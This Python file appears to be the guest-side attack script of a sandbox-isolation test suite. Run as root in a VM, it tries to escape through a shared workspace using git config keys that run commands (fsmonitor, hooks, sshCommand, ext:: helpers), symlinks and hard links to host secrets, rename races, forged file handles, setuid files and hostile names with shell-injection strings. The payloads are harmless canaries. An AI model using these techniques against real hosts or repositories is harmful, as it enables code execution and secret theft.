"""What a hostile root of the guest does, one function an attack. Runs in the guest, as root.

The first line read is a JSON object with what the attacks need to know of the scene. Every other line is `STEP<tab>ARGUMENT`
and is answered with one line of JSON: whether the attack could be made at all, and what was seen. An attack whose single
deeds the kernel or the share refuses has been made; what came of it is seen from the host. Names with an underscore are no
steps.
"""

import contextlib
import ctypes
import errno
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import traceback

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
AT_EMPTY_PATH = 0x1000
AT_SYMLINK_FOLLOW = 0x400
RENAME_EXCHANGE = 2
RAW = "/raw"
WORK = "/workspace"
PRISTINE = "/root/pristine"
HOOKS = ("post-index-change", "pre-commit", "post-commit", "post-checkout", "reference-transaction", "pre-auto-gc",
         "prepare-commit-msg", "commit-msg", "post-merge", "post-rewrite", "fsmonitor-watchman")
NASTY = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\u009b5m\u202egnp.exe\u2066\u200b"

scene = {}
done = []
own = []
race = None


# Git: what the host's git would obey


def fsmonitor():
    _configure("core.fsmonitor", _canary("fsmonitor"))


def hooks_path():
    for name in HOOKS:
        _program(f"{WORK}/evil-hooks/{name}", "hooksPath")
    _configure("core.hooksPath", scene["project"] + "/evil-hooks")


def hooks():
    _repository()
    for name in HOOKS:
        _try(f"hook {name}", lambda: _program(f"{_raw()}/.git/hooks/{name}", "hook"))


def filter_by_attributes():
    _configure("filter.evil.clean", _canary("filter") + "; cat")
    _try("info/attributes", lambda: _write(f"{_raw()}/.git/info/attributes", "* filter=evil\n"))
    _write(f"{_work()}/README", "other\n")


def include_path():
    _write(f"{WORK}/evil-config", f'[core]\n\tfsmonitor = "{_canary("include")}"\n')
    _configure("include.path", scene["project"] + "/evil-config")


def worktree_configuration():
    _configure("extensions.worktreeConfig", "true")
    _try("config.worktree", lambda: _evil_config(f"{_raw()}/.git/config.worktree", "config.worktree"))


def swapped_repository():
    _take_git_away()
    _configure("core.fsmonitor", _canary("swapped"))


def git_file():
    _evil_bare(f"{WORK}/evil-repository", "gitdir")
    _take_git_away()
    _try("write", lambda: _write(f"{_raw()}/.git", f"gitdir: {_up()}evil-repository\n"))


def git_link():
    _evil_bare(f"{WORK}/evil-repository", "link")
    _take_git_away()
    _try("link", lambda: os.symlink(f"{_up()}evil-repository", f"{_raw()}/.git"))


def common_directory():
    _evil_bare(f"{WORK}/evil-common", "commondir")
    _repository()
    _try("commondir", lambda: _write(f"{_raw()}/.git/commondir", f"../{_up()}evil-common\n"))


def unmounted():
    """Looks below what lies over `.git`, in a mount namespace of its own."""
    work, raw = _work(), _raw()
    inner = (
        f"umount -l {work}/.git; umount -l {WORK}/.git; umount -l /run/host-git/objects; mount -o remount,rw /raw;"
        f" mount -o remount,bind,rw {raw}/.git; umount -l {raw}/.git; cd {work};"
        f" git config -f .git/config core.fsmonitor \"{_canary('unmounted')}\";"
        f" git config -f {raw}/.git/config core.fsmonitor \"{_canary('unmounted')}\";"
        f" rmdir .git; mv .git .git2 && git init -q . && git config core.fsmonitor \"{_canary('unmounted')}\";"
        f" rm -rf .git/hooks; ls -la .git {raw}/.git"
    )
    done.append(_shell("unshare", "-m", "sh", "-c", inner))


def objects_of_the_host():
    """What of the host's repository is shown is its objects: to be read, and not to be written."""
    os.makedirs("/objects", exist_ok=True)
    places = [line.split()[1] for line in _read("/proc/mounts").splitlines() if line.split()[1].startswith("/run/host-git")]
    for place in places:
        done.append(_shell("mount", "-o", "remount,rw", place))
    done.append("again: " + _shell("mount", "-t", _file_system(), _mount_options(), "objects", "/objects"))
    for place in [*places, "/objects", f"{_raw()}/.git/objects"]:
        _try("new object", lambda: _write(f"{place}/aa/evil", "evil"))
        _try("alternates", lambda: _write(f"{place}/info/alternates", scene["outside"] + "\n"))
        _try("rename", lambda: os.rename(f"{place}/pack", f"{place}/pack2"))
        for directory, _, names in os.walk(place):
            for name in names:
                _try("truncate", lambda: os.truncate(f"{directory}/{name}", 0))
                _try("unlink", lambda: os.unlink(f"{directory}/{name}"))
                _try("chmod", lambda: os.chmod(f"{directory}/{name}", 0o4777))
    _shell("umount", "/objects")


def nested_repository():
    _runs("git", "init", "-q", f"{WORK}/nested")
    _evil_config(f"{WORK}/nested/.git/config", "nested", append=True)


def gitlink():
    nested_repository()
    _write(f"{WORK}/nested/file", "x\n")
    _git("-C", f"{WORK}/nested", "-c", "core.fsmonitor=false", "add", "file")
    _git("-C", f"{WORK}/nested", "-c", "core.fsmonitor=false", "commit", "-qm", "inner")
    if _has_git():
        _git("-C", WORK, "add", "nested")
        _git("-C", WORK, "commit", "-qm", "outer")


def bare_repository():
    _evil_bare(f"{WORK}/bare", "implicit bare repository")


def bare_repository_in_a_commit():
    """With a file in each directory, as a commit holds no empty ones."""
    bare_repository()
    for name in ("objects", "refs"):
        _write(f"{WORK}/bare/{name}/kept", "")
    if _has_git():
        _git("-C", WORK, "add", "-f", "bare")
        _git("-C", WORK, "commit", "-qm", "bare")


def scattered_repository():
    """What git needs to take a directory for a repository: a head, and a word where the rest is."""
    _write(f"{WORK}/lure/HEAD", "ref: refs/heads/main\n")
    _write(f"{WORK}/lure/commondir", "../parts\n")
    for name in ("objects", "refs"):
        os.makedirs(f"{WORK}/parts/{name}")
    # In such a one git lets no work tree be chosen, so it looks for no changes.
    _write(f"{WORK}/parts/config", f'[alias]\n\tst = "!{_canary("scattered")}"\n')


def repository_at_the_top():
    for place in dict.fromkeys((WORK, _work())):
        _write(f"{place}/HEAD", "ref: refs/heads/main\n")
        for name in ("objects", "refs/heads"):
            os.makedirs(f"{place}/{name}")
        # Where the work tree would be the repository, git looks for no changes. It takes names for commands all the same.
        _write(f"{place}/config", f'[alias]\n\tst = "!{_canary("top")}"\n')


def external_diff():
    _configure("diff.external", _canary("diff.external"))
    _configure("diff.evil.textconv", _canary("textconv") + "; cat")
    _write(f"{_work()}/README", "other\n")


def pager():
    _configure("core.pager", _canary("pager") + "; cat")


def alias():
    _configure("alias.st", "!" + _canary("alias"))


def ssh_command():
    _configure("core.sshCommand", _canary("sshCommand"))
    _configure("remote.origin.url", "ssh://nowhere.invalid/x")


def remote_helper():
    _configure("protocol.ext.allow", "always")
    _configure("remote.origin.url", "ext::sh -c " + _canary("ext").replace(" ", "% "))


def gpg_program():
    _program(f"{WORK}/evil-gpg", "gpg.program")
    _configure("gpg.program", scene["project"] + "/evil-gpg")
    _configure("log.showSignature", "true")
    if _has_git():
        _try("signed commit", _signed_commit)


def _signed_commit():
    tree = _git("-C", _work(), "rev-parse", "HEAD^{tree}")
    parent = _git("-C", _work(), "rev-parse", "HEAD")
    who = "Eve <eve@example.org> 1700000000 +0000"
    signature = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n evil\n -----END PGP SIGNATURE-----\n"
    _commit_object(f"tree {tree}\nparent {parent}\nauthor {who}\ncommitter {who}\n{signature}\nsigned\n")


def work_tree_elsewhere():
    _configure("core.worktree", scene["outside"])


# Git: what comes home


def honest_commit():
    _write(f"{WORK}/honest", "work\n")
    if _has_git():
        _git("-C", WORK, "add", "honest")
        _git("-C", WORK, "commit", "-qm", "honest work")


def trusted_filter():
    """A filter that the user has configured, on files that the agent chooses."""
    _write(f"{WORK}/.gitattributes", "* filter=trusted diff=trusted merge=trusted\n")
    _write(f"{WORK}/README", "other\n")
    if _has_git():
        _git("-C", WORK, "add", ".gitattributes", "README")
        _git("-C", WORK, "commit", "-qm", "attributes")


def tree_with(name):
    """A commit whose tree has a name that some file system takes for `.git`, or that leads up."""
    blob = _object("blob", b"#!/bin/sh\n" + _canary("tree").encode() + b"\n")
    hooks = _object("tree", _entry("100755", "post-index-change", blob))
    evil = _object("tree", _entry("40000", "hooks", hooks))
    root = _object("tree", _entry("40000", json.loads(f'"{name}"'), evil))
    _commit_tree(root)


def submodules(url):
    modules = _object("blob", f'[submodule "x"]\n\tpath = x\n\turl = {url}\n\tupdate = !{_canary("update")}\n'.encode())
    _commit_tree(_object("tree", _entry("100644", ".gitmodules", modules)))


def linked_git_files():
    """`.gitmodules`, `.gitattributes`, `.mailmap` as links, in a commit."""
    target = _object("blob", (scene["outside"] + "/secrets/key").encode())
    names = (".gitattributes", ".gitignore", ".gitmodules", ".mailmap")
    _commit_tree(_object("tree", b"".join(_entry("120000", name, target) for name in names)))


def directory_becomes_link():
    """A commit that puts a link in the place of a directory of files."""
    shutil.rmtree(f"{WORK}/src")
    os.symlink(scene["outside"] + "/secrets", f"{WORK}/src")
    if _has_git():
        _git("-C", WORK, "add", "-A", "src")
        _git("-C", WORK, "commit", "-qm", "link")


def hostile_refs(which):
    head = _git("-C", WORK, "rev-parse", "HEAD")
    forbidden = ["../../config", "..", "a/../../hooks/post-checkout", "@{0}", "x.lock", "a b", NASTY]
    odd = ["-x", "--upload-pack=touch", "HEAD", "é" * 120, "refs/heads/main", "x\u202egnp", "c1\u009b5m", "$(id)", "`id`", ";id", "|id"]
    names = {"forbidden": forbidden, "odd": odd}[which]
    refs = "".join(f"{head} refs/heads/{name}\n" for name in names)
    packed = f"{WORK}/.git/packed-refs"
    old = _read(packed) if os.path.exists(packed) else ""
    _write(packed, "".join(line + "\n" for line in old.splitlines() if not line.startswith("#")) + refs)
    if which == "odd":
        return
    _try("symbolic", lambda: _write(f"{WORK}/.git/refs/heads/symbolic", "ref: ../../../../etc/passwd\n"))
    _try("absolute", lambda: os.symlink(scene["outside"] + "/secrets/key", f"{WORK}/.git/refs/heads/absolute"))


def lying_git():
    """Whoever asks for the guest's commits gets control sequences and rubbish. Until `put_back`."""
    if os.path.exists("/usr/bin/git.true"):
        return
    os.rename("/usr/bin/git", "/usr/bin/git.true")
    lie = f"#!/bin/sh\nprintf '{_octal(NASTY)}\\n' >&2\nprintf 'ERR {_octal(NASTY)}\\n'\nhead -c 100000 /dev/urandom\nexit 1\n"
    _write("/usr/bin/git", lie)
    os.chmod("/usr/bin/git", 0o755)


def corrupt_objects():
    """Objects that are not what their names say, and a history with holes."""
    _write(f"{WORK}/README", "corrupt\n")
    _git("-C", WORK, "commit", "-qam", "corrupt")
    blob = _git("-C", WORK, "rev-parse", "HEAD:README")
    path = f"{WORK}/.git/objects/{blob[:2]}/{blob[2:]}"
    os.chmod(path, 0o644)
    with open(path, "rb+") as file:
        file.seek(4)
        file.write(b"\0\0\0")


# Names


def hostile_names():
    names = [b"\x1b]0;pwned\x07", b"\x1b[2J\x1b[31mred", b"two\nlines", b"back\rward", b"\xff\xfe not utf-8", b"c1\xc2\x9b5m",
             "\u202egnp.exe".encode(), "\u2066\u200b\ufeff".encode(), b"n" * 255, "é".encode() * 127, b"--help", b"-rf",
             b"--output=evil", b"$(id)", b"`id`", b"%s%n", b"a\\b", b'"quoted"', b" ", b"~", b"*", b"\x7f"]
    for name in names:
        _try(repr(name[:20]), lambda: _write_bytes(WORK.encode() + b"/" + name, b"x\n"))
    for name in names[:8]:
        _try("below", lambda: _write_bytes(WORK.encode() + b"/dir-" + name + b"/Makefile", b"x\n"))
        _try("link", lambda: os.symlink(b"/" + name, WORK.encode() + b"/link-" + name))
        _try("program", lambda: os.chmod(WORK.encode() + b"/" + name, 0o755))


def hostile_words():
    """The same in what a commit is about, who made it and what it changes, and in the names of branches."""
    hostile_names()
    _write(f"{WORK}/README", NASTY + "\nforged\r\x1b[A\n")
    if _has_git():
        _git("-C", WORK, "add", "-A")
        _git("-C", WORK, "-c", f"user.name={NASTY}", "commit", "-qm", NASTY + "\n\nbody" + NASTY)
        _git("-C", WORK, "branch", "c1\u009b5m\u202egnp\u2066")


# The share


def links_out():
    outside = scene["outside"]
    shutil.rmtree(f"{WORK}/src")
    os.unlink(f"{WORK}/README")
    links = {"README": "/secrets/key", "src": "/secrets", "out": "/secrets", "key": "/secrets/key", ".keystone": "/keystone",
             ".gitattributes": "/secrets/key", ".gitignore": "/secrets/key", ".gitmodules": "/secrets/key",
             ".mailmap": "/secrets/key", "Makefile": "/secrets/key", "package.json": "/secrets/key", ".envrc": "/secrets/key",
             "top": ""}
    for name, target in links.items():
        os.symlink(outside + target, f"{WORK}/{name}")
    for number in range(60):
        os.symlink(f"loop{(number + 1) % 60}", f"{WORK}/loop{number}")


def links_in_keystone():
    os.makedirs(f"{WORK}/.keystone", exist_ok=True)
    os.symlink(scene["outside"] + "/secrets/key", f"{WORK}/.keystone/agent.toml")


def process_links():
    for name, target in {"proc-root": "/proc/self/root", "proc-cwd": "/proc/self/cwd", "proc-fd": "/proc/self/fd",
                         "dev-fd": "/dev/fd/0", "parent": "/proc/self/cwd/../outside/secrets/key", "Makefile": "/proc/self/fd/0",
                         "package.json": "/proc/self/environ", ".envrc": "/dev/stdin"}.items():
        os.symlink(target, f"{WORK}/{name}")


def rename_race():
    """Two names that are a directory and a link in turn, until `put_back`."""
    global race
    for name in ("flip", ".keystone"):
        os.makedirs(f"{RAW}/{name}/secrets", exist_ok=True)
        _write(f"{RAW}/{name}/key", "of the guest\n")
        _write(f"{RAW}/{name}/Makefile", "of the guest\n")
        _write(f"{RAW}/{name}/agent.toml", "")
        os.symlink(scene["outside"] + "/secrets", f"{RAW}/{name}.link")
    race = _Race(("flip", ".keystone"))


class _Race:
    def __init__(self, names):
        self.names = names
        self.over = threading.Event()
        self.turns = 0
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.over.is_set():
            for name in self.names:
                here, there = f"{RAW}/{name}", f"{RAW}/{name}.link"
                with contextlib.suppress(OSError):
                    if LIBC.renameat2(AT_FDCWD, here.encode(), AT_FDCWD, there.encode(), RENAME_EXCHANGE) != 0:
                        os.rename(here, here + ".away")
                        os.rename(there, here)
                        os.rename(here + ".away", there)
                self.turns += 1

    def end(self):
        self.over.set()
        self.thread.join(10)
        return self.turns


def above_the_share():
    """By every path and every mount that might lead above it."""
    seen = []
    for place in (RAW, WORK, "/data", "/fixed"):
        for above in ("..", "../..", "../outside/secrets/key", "../../outside/secrets/key", scene["outside"] + "/secrets/key"):
            seen += _look(f"{place}/{above}")
        root = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
        for name in ("..", "../outside", "../outside/secrets/key", "/../outside/secrets/key", "a/../../outside", "n" * 4096, "n" * 256):
            with contextlib.suppress(OSError):
                seen.append(os.read(os.open(name, os.O_RDONLY, dir_fd=root), 200).decode(errors="replace"))
            with contextlib.suppress(OSError):
                os.mkdir(name, dir_fd=root)
        os.close(root)
    os.makedirs("/again", exist_ok=True)
    names = ("/", "..", "../..", "/etc", scene["outside"], scene["outside"] + "/secrets", "n" * 200)
    for tag in ("workspace", "mount0", "mount1", "mount2", "root", "/", "0", "git"):
        for name in names if scene["driver"] != "virtiofs" else names[:1]:
            options = [f"-otrans=virtio,version=9p2000.L,aname={name}"] if scene["driver"] != "virtiofs" else []
            if subprocess.run(["mount", "-t", _file_system(), *options, tag, "/again"], capture_output=True).returncode:
                continue
            for above in ("", "..", "../outside/secrets/key", "secrets/key", "key"):
                seen += _look(f"/again/{above}", tag)
            _runs("umount", "/again")
    return "\n".join(line for line in seen if "of the host" in line)


def _look(path, _tag=""):
    try:
        return os.listdir(path) if os.path.isdir(path) else [_read(path)]
    except (OSError, UnicodeDecodeError):
        return []


def handles():
    """`open_by_handle_at` with handles of other files' numbers."""
    seen = []
    for place in (RAW, "/data", "/fixed"):
        handle = ctypes.create_string_buffer(8 + 128)
        mount = ctypes.c_int()
        ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
        if LIBC.name_to_handle_at(AT_FDCWD, place.encode(), handle, ctypes.byref(mount), 0):
            done.append("no handles: " + errno.errorcode[ctypes.get_errno()])
            continue
        root = os.open(place, os.O_RDONLY)
        for number in list(range(1, 200)) + [2**32 - 1, 2**63 - 1]:
            forged = ctypes.create_string_buffer(handle.raw)
            ctypes.memmove(ctypes.addressof(forged) + 8, number.to_bytes(8, "little"), 8)
            opened = LIBC.open_by_handle_at(root, forged, os.O_RDONLY)
            if opened >= 0:
                with contextlib.suppress(OSError):
                    seen += os.listdir(opened)
                with contextlib.suppress(OSError):
                    seen.append(os.read(opened, 100).decode(errors="replace"))
                os.close(opened)
        os.close(root)
    return " ".join(seen)[:2000]


def device_nodes():
    for place in (RAW, "/data", "/fixed"):
        for name, kind in (("block", 0o060666), ("character", 0o020666)):
            _try(name, lambda: os.mknod(f"{place}/{name}-node", kind, os.makedev(8, 0)))
            _try(name, lambda: os.mknod(f"{place}/{name}-null", kind, os.makedev(1, 3)))


def special_files():
    """Pipes and sockets where host programs expect files: whoever opens one waits."""
    os.makedirs(f"{WORK}/.keystone", exist_ok=True)
    names = (".gitattributes", ".gitignore", ".gitmodules", ".mailmap", ".keystone/agent.toml", "Makefile", "package.json", ".envrc")
    for name in names:
        _try("pipe", lambda: os.mkfifo(f"{WORK}/{name}"))
    with socket.socket(socket.AF_UNIX) as server:
        _try("socket", lambda: server.bind(f"{WORK}/flake.nix"))


def setuid_files(place):
    for name, mode in (("setuid", 0o4755), ("setgid", 0o2755), ("both", 0o6777)):
        shutil.copy("/bin/true", f"{place}/{name}")
        _try(name, lambda: os.chown(f"{place}/{name}", 0, 0))
        _try(name, lambda: os.chmod(f"{place}/{name}", mode))
        _try(name, lambda: os.close(os.open(f"{place}/{name}-made", os.O_CREAT | os.O_WRONLY, mode)))


def hard_links():
    outside = scene["outside"]
    for source in ("/etc/passwd", "/data/set", "/fixed/set", outside + "/secrets/key", "/proc/self/environ"):
        for place in (RAW, "/data"):
            _try("link", lambda: os.link(source, f"{place}/hard-{source.count('/')}"))
    os.symlink(outside + "/secrets/key", f"{RAW}/soft")
    _try("followed", lambda: os.link(f"{RAW}/soft", f"{RAW}/hard-soft", follow_symlinks=True))
    _try("descriptor", lambda: _link_of_descriptor(f"{RAW}/soft", f"{RAW}/hard-descriptor"))
    return "\n".join(_look(f"{RAW}/hard-soft") + _look(f"{RAW}/hard-descriptor"))


def _link_of_descriptor(source, target):
    opened = os.open(source, os.O_PATH | os.O_NOFOLLOW)
    try:
        if LIBC.linkat(opened, b"", AT_FDCWD, target.encode(), AT_EMPTY_PATH) and LIBC.linkat(
                AT_FDCWD, f"/proc/self/fd/{opened}".encode(), AT_FDCWD, target.encode(), AT_SYMLINK_FOLLOW):
            raise OSError(ctypes.get_errno(), "linkat")
    finally:
        os.close(opened)


def through_links():
    """Changes a link itself, which a careless server does to what it leads to."""
    for name, target in (("to-file", "/secrets/key"), ("to-directory", "/secrets"), ("to-nothing", "/secrets/new")):
        for place in (RAW, "/data"):
            path = f"{place}/{name}"
            os.symlink(scene["outside"] + target, path)
            number = os.open(path, os.O_PATH | os.O_NOFOLLOW)
            opened = f"/proc/self/fd/{number}"
            for each in (path, opened):
                _try("attribute", lambda: os.setxattr(each, "user.evil", b"x", follow_symlinks=False))
                _try("attribute", lambda: os.setxattr(each, "user.evil", b"x"))
                _try("chown", lambda: os.chown(each, 1000, 1000, follow_symlinks=False))
                _try("chmod", lambda: os.chmod(each, 0o777))
                _try("times", lambda: os.utime(each, (1, 1), follow_symlinks=False))
                _try("truncate", lambda: os.truncate(each, 0))
                _try("create", lambda: _write(each, "evil"))
                _try("below", lambda: _write(each + "/evil", "evil"))
                _try("rename", lambda: os.rename(each + "/key", each + "/key2"))
                _try("unlink", lambda: os.unlink(each + "/key"))
            # Over 9p a device that is in use is not given up.
            os.close(number)


def read_only_share():
    _shell("sh", "-c", "mount -o remount,rw /fixed; mount -o remount,bind,rw /fixed")
    os.makedirs("/fixed2", exist_ok=True)
    tag = next(line.split()[0] for line in _read("/proc/mounts").splitlines() if line.split()[1] == "/fixed")
    done.append("again: " + _shell("mount", "-t", _file_system(), _mount_options(), tag, "/fixed2"))
    for place in ("/fixed", "/fixed2"):
        _try("create", lambda: _write(f"{place}/new", "evil"))
        _try("write", lambda: _write(f"{place}/set", "evil"))
        _try("truncate", lambda: os.truncate(f"{place}/set", 0))
        _try("chmod", lambda: os.chmod(f"{place}/set", 0o777))
        _try("times", lambda: os.utime(f"{place}/set", (1, 1)))
        _try("attribute", lambda: os.setxattr(f"{place}/set", "user.evil", b"x"))
        _try("rename", lambda: os.rename(f"{place}/set", f"{place}/moved"))
        _try("link", lambda: os.link(f"{place}/set", f"{place}/hard"))
        _try("symlink", lambda: os.symlink("x", f"{place}/soft"))
        _try("unlink", lambda: os.unlink(f"{place}/set"))
        _try("mkdir", lambda: os.mkdir(f"{place}/directory"))
    _shell("umount", "/fixed2")


def deep_directories():
    """Deeper than a path can be long."""
    for name, count in (("d", 400), ("d" * 255, 20)):
        with contextlib.ExitStack() as stack:
            here = os.open(WORK, os.O_RDONLY)
            for _ in range(count):
                os.mkdir(name, dir_fd=here)
                below = os.open(name, os.O_RDONLY, dir_fd=here)
                os.close(here)
                here = below
            os.close(os.open("Makefile", os.O_CREAT | os.O_WRONLY, dir_fd=here))
            stack.callback(os.close, here)


def huge_files():
    for name in ("Makefile", "package.json", ".gitattributes", ".gitmodules", "program", ".keystone/agent.toml"):
        os.makedirs(os.path.dirname(f"{WORK}/{name}"), exist_ok=True)
        with open(f"{WORK}/{name}", "w") as file:
            file.truncate(1 << 40)
        os.chmod(f"{WORK}/{name}", 0o755)


def raw_requests(which):
    """Speaks to the share's device itself, without the guest's file system in between."""
    place = {"mount0": "/data", "mount1": "/fixed"}[which]
    _shell("umount", "-l", place)
    ended = subprocess.run(["python3", "/tmp/attacks/raw.py", scene["driver"], which, scene["outside"]], capture_output=True,
                           text=True, timeout=120)
    done.append("raw: " + ended.stdout[-1500:] + ended.stderr[-2000:])
    if ended.returncode:
        raise AssertionError("the raw client failed: " + ended.stdout[-1500:] + ended.stderr[-1500:])
    return "\n".join(line for line in ended.stdout.splitlines() if line.startswith("reached") or "of the host" in line)


def nothing():
    """What is seen of this is seen without an attack."""


# Before and after


def prepare():
    os.makedirs(RAW, exist_ok=True)
    # A bind without what is mounted below. A second mount of the tag would show virtiofs's submount instead of the share.
    _runs("mount", "--bind", WORK, RAW)
    _write(f"{RAW}/writable", "")
    os.unlink(f"{RAW}/writable")
    _look(f"{_raw()}/.git")
    os.environ.update(HOME="/root", GIT_CONFIG_GLOBAL="/root/.gitconfig")
    _write("/root/.gitconfig", "[user]\n\tname = Eve\n\temail = eve@example.org\n[safe]\n\tdirectory = *\n[gc]\n\tauto = 0\n")
    for number, path in enumerate(_own()):
        # It is there already in a guest that has to be started anew.
        if not os.path.exists(f"{PRISTINE}{number}"):
            _runs("cp", "-a", path, f"{PRISTINE}{number}")


def put_back():
    """The guest's own part; the host puts the tree back."""
    global race
    seen = ""
    if race is not None:
        seen = f"{race.end()} turns"
        race = None
    if os.path.exists("/usr/bin/git.true"):
        os.rename("/usr/bin/git.true", "/usr/bin/git")
    for number, path in enumerate(_own()):
        # The repository of a clone's files is put back for itself: it is mounted there.
        _runs("rsync", "-a", "--delete", *(["--exclude=/.git"] if path == WORK else []), f"{PRISTINE}{number}/", path + "/")
    return seen


def forget():
    """What the host has put back is to be seen, and not what was there before."""
    _write("/proc/sys/vm/drop_caches", "2")


# Means


def _file_system():
    return "virtiofs" if scene["driver"] == "virtiofs" else "9p"


def _mount_options():
    return "-orw" if scene["driver"] == "virtiofs" else "-orw,trans=virtio,version=9p2000.L"


def _own():
    """Directories that the host does not put back, as they are on the guest's disk."""
    if scene["git"] not in ("own", "apart"):
        return []
    # The first time, before anything is attacked.
    if not own:
        own.extend(_git("-C", place, "rev-parse", "--absolute-git-dir") for place in dict.fromkeys((WORK, _work())))
        own.extend([WORK] if scene["git"] == "apart" else [])
    return own


def _has_git():
    return scene["git"] != "none"


def _raw():
    """The repository that is attacked, as the share has it."""
    return os.path.join(RAW, scene["attacked"]).rstrip("/")


def _work():
    return os.path.join(WORK, scene["attacked"]).rstrip("/")


def _up():
    """From there to the top."""
    return "../" * len(scene["attacked"].split("/")) if scene["attacked"] else ""


def _canary(what):
    return f"echo {what.replace(' ', '-')} >>{scene['mark']}"


def _octal(text):
    return "".join(f"\\{byte:03o}" for byte in text.encode())


def _program(path, what):
    _write(path, f"#!/bin/sh\n{_canary(what)}\n")
    os.chmod(path, 0o755)


def _repository():
    """Where `.git` is a file, or empty, a repository has to be there first."""
    if not os.path.isdir(f"{_raw()}/.git/objects"):
        _take_git_away()
        _try("init", lambda: _runs("git", "init", "-q", _raw()))


def _configure(key, value):
    """By git, as a new file and by adding to the old one."""
    _repository()
    path = f"{_raw()}/.git/config"
    _try("git config", lambda: _runs("git", "config", "-f", path, key, value))
    if done[-1] != "git config: done":
        section, _, name = key.rpartition(".")
        section, _, subsection = section.partition(".")
        head = f'[{section} "{subsection}"]' if subsection else f"[{section}]"
        quoted = value.replace("\\", "\\\\").replace('"', '\\"')
        _try("write config", lambda: _write(path, f'{head}\n\t{name} = "{quoted}"\n', append=True))


def _evil_config(path, what, append=False):
    _write(path, f'[core]\n\tfsmonitor = "{_canary(what)}"\n', append)


def _evil_bare(path, what):
    _runs("git", "init", "-q", "--bare", path)
    _write(path + "/config", "[core]\n\tbare = false\n\tworktree = ..\n\trepositoryformatversion = 0\n")
    _evil_config(path + "/config", what, append=True)
    if what == "commondir":
        _write(path + "/config", f'[core]\n\tbare = false\n\tfsmonitor = "{_canary(what)}"\n')


def _take_git_away():
    """Or what holds it: a directory above it may be moved, with another in its place."""
    if scene["attacked"]:
        above = scene["attacked"].split("/")[0]
        _try("rename", lambda: os.rename(_raw(), _raw() + "-away"))
        _try("rename", lambda: os.rename(f"{RAW}/{above}", f"{RAW}/{above}-away"))
        _try("rename", lambda: os.rename(f"{WORK}/{above}", f"{WORK}/{above}-away"))
    _try("rename", lambda: os.rename(f"{_raw()}/.git", f"{_raw()}/.git-away"))
    _try("remove", lambda: os.rmdir(f"{_raw()}/.git"))
    _try("unlink", lambda: os.unlink(f"{_raw()}/.git"))
    if os.path.isdir(f"{_raw()}/.git-away"):
        _try("remove the old", lambda: shutil.rmtree(f"{_raw()}/.git-away"))
    _try("make", lambda: os.makedirs(_raw()))


def _object(kind, content):
    ended = subprocess.run(["git", "-C", _work(), "hash-object", "-t", kind, "--literally", "-w", "--stdin"], input=content,
                           capture_output=True, check=True)
    return ended.stdout.decode().strip()


def _entry(mode, name, identity):
    return mode.encode() + b" " + name.encode() + b"\0" + bytes.fromhex(identity)


def _commit_tree(tree):
    parent = _git("-C", _work(), "rev-parse", "HEAD")
    who = "Eve <eve@example.org> 1700000000 +0000"
    _commit_object(f"tree {tree}\nparent {parent}\nauthor {who}\ncommitter {who}\n\nevil\n")


def _commit_object(text):
    commit = _object("commit", text.encode())
    _git("-C", _work(), "update-ref", "HEAD", commit)


def _git(*arguments):
    return _runs("git", *arguments)


def _runs(*command):
    ended = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, errors="replace")
    if ended.returncode:
        raise OSError(0, f"{' '.join(command)[:100]}: status {ended.returncode}, {ended.stderr.strip()[-200:]}")
    return ended.stdout.strip()


def _shell(*command):
    ended = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, errors="replace")
    return (ended.stdout + ended.stderr)[-1500:]


def _try(what, action):
    """A deed that may be refused."""
    try:
        action()
        done.append(what + ": done")
    except (OSError, shutil.Error) as refused:
        name = errno.errorcode.get(refused.errno or 0, "") if isinstance(refused, OSError) else ""
        done.append(f"{what}: {name or str(refused)[-120:]}")


def _write(path, text, append=False):
    _write_bytes(path, text.encode(), append)


def _write_bytes(path, content, append=False):
    directory = os.path.dirname(path)
    if directory:
        os.makedirs(directory, exist_ok=True)
    with open(path, "ab" if append else "wb") as file:
        file.write(content)


def _read(path):
    with open(path, errors="replace") as file:
        return file.read(100_000)


def _answer(name, argument):
    done.clear()
    try:
        os.chdir("/")
        step = globals()[name]
        seen, passed = (step(argument) if argument else step()) or "", True
    except Exception as failure:
        line = traceback.extract_tb(failure.__traceback__)[-1].lineno
        seen, passed = f"{type(failure).__name__}: {failure} (line {line})", False
    return {"step": name, "passed": passed, "seen": seen, "done": "; ".join(sorted(set(done)))[:4000]}


if __name__ == "__main__":
    scene.update(json.loads(sys.stdin.readline()))
    for asked in sys.stdin:
        print(json.dumps(_answer(*asked.rstrip("\n").split("\t"))), flush=True)
